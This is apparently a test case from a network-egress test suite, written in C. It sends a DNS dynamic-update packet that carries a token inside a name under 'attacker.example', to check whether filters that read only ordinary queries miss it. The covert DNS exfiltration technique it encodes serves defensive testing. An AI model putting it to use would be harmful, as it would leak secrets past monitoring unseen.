// SPDX-License-Identifier: Apache-2.0
/* An update is no question: who reads questions only does not see its names. */
#include "../case.h"

#include <stdio.h>
#include <unistd.h>

static void attempt(const struct target *t, struct attempt *a)
{
	int family;
	const char *server = job_resolver(t, &family);
	char name[96];
	uint8_t q[300];
	size_t n;
	int fd = dial(a, family, SOCK_DGRAM, 0, server, 53);

	if (fd < 0)
		return;
	snprintf(name, sizeof(name), "%s.attacker.example", t->token);
	n = dns_question(q, sizeof(q), name, 6);
	q[2] = 5 << 3;
	if (send(fd, q, n, MSG_NOSIGNAL) < 0)
		failed(a, "send");
	close(fd);
}

CASE(dns_update) = { .title = "A dynamic update to the resolver",
		     .source = "RFC 2136; opcode unread by filters",
		     .group = "resolver",
		     .families = FOUR,
		     .settings = EVERYWHERE,
		     .attempt = attempt };
